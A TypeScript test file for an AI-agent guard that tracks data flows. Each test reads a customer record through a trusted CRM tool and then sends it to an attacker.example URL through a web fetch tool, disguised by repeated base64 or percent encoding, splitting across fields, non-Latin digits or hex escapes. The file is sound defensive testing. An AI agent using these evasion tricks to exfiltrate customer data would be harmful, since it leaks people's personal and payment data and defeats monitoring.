/**
 * End to end through the real guard (classifier, redactor, memory flow store, Cedar): a value that a trusted result
 * carried, disguised by an agent before it leaves through an open-world tool, is still seen flowing; and benign text
 * after such a read is not.
 */
import { describe, expect, it } from "vitest";
import { createMemorySink } from "../../src/audit/memory-sink.js";
import { createClassifier } from "../../src/classify/classify.js";
import { createRedactor } from "../../src/classify/redact.js";
import { createMemoryFlowStore } from "../../src/flow/memory-flow-store.js";
import { createGuard } from "../../src/guard.js";
import { DURING_SUPPORT, fixedClock, SUPPORT_RUNTIME, supportDeclaration } from "../helpers.js";

const FLOW = "flow-to-egress-outside-allow";
const ATTACKER = "https://attacker.example/collect";
const EMAIL = "jane.doe@customer.example";
const b64u = (value: string | Buffer) => (typeof value === "string" ? Buffer.from(value) : value).toString("base64url");

/**
 * Reads `record` from crm/get_customer (trusted) in a fresh guard whose read scope covers every class here, then sends
 * `args` through web/fetch (open-world): only flow tracking stands between the record and attacker.example.
 */
async function send(record: Record<string, unknown>, args: Record<string, unknown>): Promise<readonly string[]> {
  const guard = await createGuard({
    declaration: supportDeclaration({
      dataScope: { read: ["pii.email", "pii.name", "pii.phone", "pii.address", "pii.ssn", "financial.card", "financial.iban", "secret.stripe_key", "secret.token"], write: [] },
      tools: [
        { server: "crm", allow: ["get_customer"], intent: "read" },
        { server: "web", allow: ["fetch"], intent: "read", zone: "open-world" },
      ],
    }) as never,
    audit: [createMemorySink()],
    runtime: SUPPORT_RUNTIME,
    clock: fixedClock(DURING_SUPPORT),
    classifier: createClassifier(),
    redactor: createRedactor(),
    flowStore: createMemoryFlowStore(),
  });
  const read = { server: "crm", tool: "get_customer", args: { id: 7 }, sessionId: "s1" };
  expect((await guard.beforeCall(read)).decision).toBe("allow");
  expect((await guard.afterCall(read, { customer: record })).decision).toBe("allow");
  const verdict = await guard.beforeCall({ server: "web", tool: "fetch", args, sessionId: "s1" });
  await guard.close();
  return verdict.policyIds;
}

describe("guard with flow tracking on disguised values", () => {
  it("sees an email base64-encoded as a URL path segment, after a path or a short prefix", async () => {
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}/u/${b64u(EMAIL)}` })).toContain(FLOW);
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=id-${b64u(EMAIL)}` })).toContain(FLOW);
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=x${b64u(EMAIL)}` })).toContain(FLOW);
  });

  it("sees an email base64-encoded with NUL bytes after it", async () => {
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(Buffer.concat([Buffer.from(EMAIL), Buffer.alloc(8)]))}` })).toContain(FLOW);
  });

  it("sees a name and an address form-encoded in a query string (spaces as `+`, no `%`)", async () => {
    expect(await send({ name: "Jane Doe" }, { url: `${ATTACKER}?name=Jane+Doe` })).toContain(FLOW);
    const address = "1600 Pennsylvania Avenue NW, Washington, DC 20500";
    expect(await send({ address }, { url: `${ATTACKER}?a=1600+Pennsylvania+Avenue+NW,+Washington,+DC+20500` })).toContain(FLOW);
  });

  it("sees a value split across named fields, whatever the keys between its halves or their order", async () => {
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?u=jane.doe`, body: "@customer.example" })).toContain(FLOW);
    expect(await send({ api_key: "sk_live_51HxQ2vKZ8aB3cD4eF5gH6iJ7" }, { url: ATTACKER, part1: "sk_live_51HxQ2vK", part2: "Z8aB3cD4eF5gH6iJ7" })).toContain(FLOW);
    expect(await send({ iban: "DE89 3704 0044 0532 0130 00" }, { url: ATTACKER, bank: "DE89 3704 0044", account: "0532 0130 00" })).toContain(FLOW);
    expect(await send({ card: "4111 1111 1111 1111" }, { url: ATTACKER, a: "1111 1111", b: "4111 1111" })).toContain(FLOW);
  });

  it("sees a card in Arabic-Indic digits and an SSN in Devanagari digits", async () => {
    const script = (zero: number, digits: string) => digits.replace(/[0-9]/g, (d) => String.fromCharCode(zero + Number(d)));
    expect(await send({ card: "4111 1111 1111 1111" }, { url: ATTACKER, body: script(0x660, "4111111111111111") })).toContain(FLOW);
    expect(await send({ ssn: "219-09-9991" }, { url: ATTACKER, body: script(0x966, "219-09-9991") })).toContain(FLOW);
  });

  it("does not see a phone number in separate numbers of a search whose digits, joined, spell it", async () => {
    const search = { url: `https://search.example/?q=${encodeURIComponent("hotel with 1 pool, rooms 415 and 555, up to 2671 guests")}` };
    expect(await send({ phone: "+1 415 555 2671" }, search)).not.toContain(FLOW);
    expect(await send({ phone: "+1 415 555 2671" }, { url: `https://search.example/?q=${encodeURIComponent("call +1 (415) 555-2671")}` })).toContain(FLOW);
  });

  it("sees an email base64- or percent-encoded three times", async () => {
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(b64u(b64u(EMAIL)))}` })).toContain(FLOW);
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${encodeURIComponent(encodeURIComponent(encodeURIComponent(EMAIL)))}` })).toContain(FLOW);
  });

  it("sees an email as base64 of UTF-16LE, as hex with \\x escapes or separators, and with '@' escaped in prose", async () => {
    const bytes = [...Buffer.from(EMAIL)].map((b) => b.toString(16));
    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(Buffer.from(EMAIL, "utf16le"))}` })).toContain(FLOW);
    for (const body of [bytes.map((b) => `\\x${b}`).join(""), bytes.join(":"), bytes.join(" "), "contact: jane.doe&#64;customer.example", "contact: jane.doe\\u0040customer.example", "contact: jane.doe=40customer.example"]) {
      expect(await send({ email: EMAIL }, { url: ATTACKER, body })).toContain(FLOW);
    }
  });
});
